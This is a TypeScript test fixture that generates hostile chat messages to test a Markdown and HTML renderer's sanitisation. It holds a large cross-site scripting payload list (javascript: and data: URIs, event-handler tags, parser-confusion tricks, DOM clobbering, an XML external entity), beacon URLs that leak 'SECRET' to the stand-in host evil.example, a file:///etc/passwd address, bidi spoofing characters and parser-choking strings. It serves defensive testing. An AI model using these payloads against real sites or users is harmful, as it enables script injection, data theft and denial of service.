import { hostileDiagrams, hostileFormulas } from './hostile-drawings.ts';

/**
 * A foreign host. Any request to this host is a leak. The request cannot succeed, because the
 * browser resolves only the names of this machine.
 */
const EVIL = 'https://evil.example';
// A hostile script would call this function. The test's page defines it.
const DEED = 'conchTestDeed()';

/**
 * Messages that try to run a script, to load a foreign file, or to block the page. Every trick
 * occurs in every context where it could work. The list is deterministic.
 */
export function hostileMessages(): readonly string[] {
  const all = [
    ...ADDRESSES.flatMap((address) => PLACES.map((place) => place(address))),
    ...TAGS.flatMap((tag) => WRAPPERS.map((wrap) => wrap(tag))),
    ...FENCES.flatMap((name) => BODIES.map((body) => `\`\`\`${name}\n${body}\n\`\`\``)),
    ...hostileFormulas({ evil: EVIL, deed: DEED }),
    ...hostileDiagrams({ evil: EVIL, deed: DEED }),
    ...CLOBBERS.flatMap(clobbering),
    ...SIGNS.flatMap(signed),
    ...KNOTS,
    ...SLOW_TO_SHAPE,
  ];
  return [...new Set(all)];
}

/** Allowed member names that could break code, such as names of object properties. */
export const HOSTILE_NAMES = [
  'constructor',
  '__proto__',
  'hasOwnProperty',
  'toString',
  "O'Brien",
  'www.evil.example',
  'a_b_c',
  'javascript',
  'undefined',
  '-_-1',
];

/** Messages that mention a member with this name, in every context. */
export function hostileMentions(name: string): readonly string[] {
  return [
    `@${name} hello`,
    `**@${name}** and [@${name}](${EVIL}/a) and \`@${name}\``,
    `[@${name}](javascript:${DEED}) ![@${name}](${EVIL}/b.png)`,
    `<a href="${EVIL}">@${name}</a> @${name}'s`,
    `> @${name}\n\n@${name}\u202e@${name}`,
  ];
}

const SCRIPTS = [
  `javascript:${DEED}`,
  `JaVaScRiPt:${DEED}`,
  `java\tscript:${DEED}`,
  `&#106;avascript:${DEED}`,
  `&#x6A&#x61&#x76&#x61script:${DEED}`,
  `javascript&colon;${DEED}`,
  `\u0001javascript:${DEED}`,
  `%6aavascript:${DEED}`,
  `javascript://%0a${DEED}`,
  `javascript:/*--></title></style></script>*/${DEED}`,
  `view-source:javascript:${DEED}`,
  `vbscript:${DEED}`,
  `livescript:${DEED}`,
  `feed:javascript:${DEED}`,
  `jar:javascript:${DEED}`,
  `data:text/html,<script>parent.${DEED}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY29uY2hUZXN0RGVlZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${DEED}"/>`,
  `data:application/javascript,${DEED}`,
  'file:///etc/passwd',
  'blob:null/1',
  'filesystem:http://evil.example/x',
  'about:blank',
  'ws://evil.example',
  'ftp://evil.example/x',
];

const BEACONS = [
  `${EVIL}/beacon.png?q=SECRET`,
  `http://evil.example/beacon.gif`,
  '//evil.example/beacon.png',
  '\\\\evil.example\\beacon.png',
  '/\\evil.example/beacon.png',
  'https:evil.example/beacon.png',
  'https:///evil.example/beacon.png',
  'https://127.0.0.1:9@evil.example/beacon.png',
  'https://evil%2eexample/beacon.png',
  'https://еvil.example/beacon.png',
  'http://127.0.0.1:9/beacon.png',
  'http://[::1]:9/beacon.png',
  'HTTPS://EVIL.EXAMPLE/BEACON.PNG',
  `${EVIL}/beacon.svg#x`,
  `${EVIL}/"onerror="${DEED}`,
  `${EVIL}/'onload='${DEED}`,
  `mailto:a@evil.example?body=SECRET`,
  '#setup=stolen',
  '/agents/../api/v1/me',
  '/api/v1/sign-out',
  '?panel=why',
];

const ADDRESSES = [...SCRIPTS, ...BEACONS];

/** The contexts in which an address can occur in Markdown and in HTML. */
const PLACES: readonly ((address: string) => string)[] = [
  (a) => `[click](${a})`,
  (a) => `[click](<${a}>)`,
  (a) => `[click](${a} "title")`,
  (a) => `![picture](${a})`,
  (a) => `![picture](<${a}> 'title')`,
  (a) => `[![picture](${a})](${a})`,
  (a) => `[click][1]\n\n[1]: ${a}`,
  (a) => `![picture][1]\n\n[1]: <${a}> "title"`,
  (a) => `[1]\n\n[1]: ${a}\n\n![1]`,
  (a) => `<${a}>`,
  (a) => `see ${a} and www.evil.example`,
  (a) => `a[^1]\n\n[^1]: [note](${a})`,
  (a) => `| a |\n|---|\n| [cell](${a}) ![cell](${a}) |`,
  (a) => `- [ ] [task](${a})\n- [x] ![task](${a})`,
  (a) => `> [quote](${a})\n> ![quote](${a})`,
  (a) => `# [head](${a}) ![head](${a})`,
  (a) => `**[bold](${a})** ~~![gone](${a})~~`,
  (a) => `[${'['.repeat(20)}deep${']'.repeat(20)}](${a})`,
  (a) => `<img src="${a}">`,
  (a) => `<a href="${a}" style="background:url(${a})">click</a>`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<object data="${a}"></object><embed src="${a}">`,
  (a) => `<video src="${a}" poster="${a}" autoplay><source src="${a}"></video>`,
  (a) => `<audio src="${a}" autoplay><track src="${a}"></audio>`,
  (a) => `<link rel="stylesheet" href="${a}"><link rel="prefetch" href="${a}">`,
  (a) => `<meta http-equiv="refresh" content="0;url=${a}"><base href="${a}">`,
  (a) => `<form action="${a}"><input type="image" src="${a}"><button formaction="${a}">x</button>`,
  (a) => `<svg><image href="${a}"/><use xlink:href="${a}"/><a xlink:href="${a}">x</a></svg>`,
  (a) => `<math href="${a}"><mglyph src="${a}"/><maction xlink:href="${a}">x</maction></math>`,
  (a) => `<style>@import url(${a}); * { background: url("${a}") }</style>`,
  (a) => `<div style="background-image:url('${a}');list-style:url(${a})">x</div>`,
  (a) => `<picture><source srcset="${a} 2x"><img srcset="${a}"></picture>`,
  (a) => `<body background="${a}"><table background="${a}"><td background="${a}">`,
  (a) => `\`\`\`html\n<img src="${a}">\n\`\`\`\n![after](${a})`,
];

const TAGS = [
  `<script>${DEED}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<SCRIPT/SRC="${EVIL}/x.js">`,
  `<scr<script>ipt>${DEED}</scr</script>ipt>`,
  `<img src=x onerror=${DEED}>`,
  `<img/src=x/onerror=${DEED}//`,
  `<img src=x onerror="&#99;onchTestDeed()">`,
  `<svg onload=${DEED}>`,
  `<svg><script>${DEED}</script></svg>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${DEED}</script>">`,
  `<math><mtext></p><img src=x onerror=${DEED}>`,
  `<details open ontoggle=${DEED}>`,
  `<body onload=${DEED}>`,
  `<input autofocus onfocus=${DEED}>`,
  `<select autofocus onfocus=${DEED}>`,
  `<textarea autofocus onfocus=${DEED}>`,
  `<marquee onstart=${DEED}>`,
  `<video><source onerror=${DEED}></video>`,
  `<iframe srcdoc="<script>parent.${DEED}</script>"></iframe>`,
  `<template><img src=x onerror=${DEED}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
  `<!--><img src=x onerror=${DEED}>-->`,
  `<!-- --!><script>${DEED}</script> -->`,
  `<![CDATA[<script>${DEED}</script>]]>`,
  `<?xml-stylesheet href="${EVIL}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${EVIL}/e">]>&e;`,
  `<xmp><img src=x onerror=${DEED}></xmp>`,
  `<title><img src=x onerror=${DEED}></title>`,
  `</p></div></article><script>${DEED}</script>`,
  `&lt;script&gt;${DEED}&lt;/script&gt;`,
  `<style>*{background:url(${EVIL}/s)}</style>`,
  `<p style="animation:x" onanimationstart=${DEED}>x</p>`,
  `<a href=x onmouseover=${DEED}>over</a>`,
  `<div popover id=x onbeforetoggle=${DEED}>x</div><button popovertarget=x>x</button>`,
  `<dialog open onclose=${DEED}>x</dialog>`,
  `<portal src=${EVIL}></portal><fencedframe src=${EVIL}>`,
  `<world>pass</world><script>${DEED}</script>`,
];

const WRAPPERS: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `words before ${tag} words after`,
  (tag) => `\n\n${tag}\n\n**bold**`,
  (tag) => `- item ${tag}`,
  (tag) => `> ${tag}`,
  (tag) => `# ${tag}`,
  (tag) => `| ${tag.replaceAll('|', '')} |\n|---|\n| ${tag.replaceAll('|', '')} |`,
  (tag) => `[${tag}](${EVIL})`,
  (tag) => `![${tag}](${EVIL}/x.png)`,
  (tag) => `[a](${EVIL} "${tag.replaceAll('"', "'")}")`,
  (tag) => `\`${tag}\` ${tag}`,
];

const FENCES = [
  'mermaid',
  'vega',
  'vega-lite',
  'katex',
  'math',
  'svg',
  'html',
  'js',
  'graphviz',
  'geojson',
  'streamdown',
  '__proto__',
  'constructor',
  'toString',
  'js onload=x',
  '../../x',
];

const BODIES = [
  `graph TD; A["<img src=x onerror=${DEED}>"] --> B; click A "javascript:${DEED}"`,
  `{"$schema":"${EVIL}/v5.json","data":{"url":"${EVIL}/d.csv"},"marks":[]}`,
  `\\href{javascript:${DEED}}{x} \\includegraphics{${EVIL}/x.png}`,
  `<svg onload="${DEED}"><image href="${EVIL}/x.png"/></svg>`,
  `%%{init: {"themeCSS": "* { background: url(${EVIL}/c) }"}}%%\ngraph LR; A-->B`,
  `${'('.repeat(500)}"${'\\'.repeat(500)}`,
];

const CLOBBERS = [
  'location',
  'cookie',
  'body',
  'head',
  'forms',
  'getElementById',
  'page',
  'content',
  'root',
  'constructor',
  '__proto__',
  'currentScript',
  'defaultView',
];

function clobbering(name: string): readonly string[] {
  return [
    `<form id="${name}"><input name="${name}"><input name="attributes"></form>`,
    `# ${name}\n\na[^${name}]\n\n[^${name}]: ${name}`,
    `<a id="${name}"></a><a id="${name}" name="x" href="${EVIL}">x</a>`,
    `[${name}][${name}] ![${name}][${name}]\n\n[${name}]: ${EVIL}/${name}`,
    `<img name="${name}" id="${name}" src="${EVIL}/x.png">`,
  ];
}

/** Bidi controls, joiners, zero-width marks, tags and private-use characters. */
const SIGNS = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u200f',
  '\u061c',
  '\ufeff',
  '\u00ad',
  '\u2028',
  '\u2029',
  '\u{e0041}',
  '\u{e0001}',
  '\ue000',
  '\ufffd',
  '\u0000',
  '\u0007',
  '\u001b[31m',
];

function signed(sign: string): readonly string[] {
  return [
    `[https://bank.example${sign}](${EVIL})`,
    `[${sign}moc.knab](${EVIL}/${sign})`,
    `![${sign}gnp](${EVIL}/${sign}.png)`,
    `java${sign}script:${DEED} [x](java${sign}script:${DEED})`,
    `<img${sign}src=x onerror=${DEED}>`,
    `${sign.repeat(200)}https://evil.example/${sign}`,
    `@human${sign} **bold${sign}** \`${sign}\``,
    `<scr${sign}ipt>${DEED}</script>`,
  ];
}

/** Texts that are slow to parse as Markdown, or that nest elements too deep. */
const KNOTS = [
  '>'.repeat(9_000),
  '> '.repeat(9_000),
  '- '.repeat(9_000),
  '1. '.repeat(9_000),
  '['.repeat(9_000),
  '!['.repeat(9_000),
  `${'['.repeat(4_000)}a${'](b)'.repeat(4_000)}`,
  '*a **a '.repeat(3_000),
  '**'.repeat(6_000),
  '~a'.repeat(9_000),
  '`a'.repeat(9_000),
  '|a'.repeat(9_000),
  `|a|\n|-|\n${'|a|\n'.repeat(4_000)}`,
  '[^a]: '.repeat(4_000),
  '<a '.repeat(9_000),
  '<!--'.repeat(7_000),
  '&amp;'.repeat(6_000),
  'http://a.b '.repeat(2_500),
  'a@b.c '.repeat(4_000),
  '# a\n'.repeat(4_000),
  '```\n'.repeat(6_000),
  'a\n'.repeat(9_000),
  `\`\`\`js\n${'/'.repeat(5_000)}\n\`\`\``,
  `\`\`\`html\n${'<'.repeat(5_000)}\n\`\`\``,
  'a'.repeat(30_000),
  `a${'\u202e'.repeat(9_000)}b`,
];

/** Texts of the maximum length. A browser needs seconds to draw such a text as a single run. */
export const SLOW_TO_SHAPE = [
  '_*'.repeat(16_000),
  `Z${'\u0301'.repeat(16_000)}`,
  'Z\u0301\u0302'.repeat(10_000),
  'a'.repeat(32_000),
  '\u{1f469}\u200d'.repeat(10_000),
  `a${'\u200d'.repeat(30_000)}`,
  '\u0640'.repeat(30_000),
  `\u0e01${'\u0e49'.repeat(16_000)}`,
  `\u05d0${'\u05b0\u05b1'.repeat(10_000)}`,
  `\`\`\`\n${'_*'.repeat(15_000)}\n\`\`\``,
];
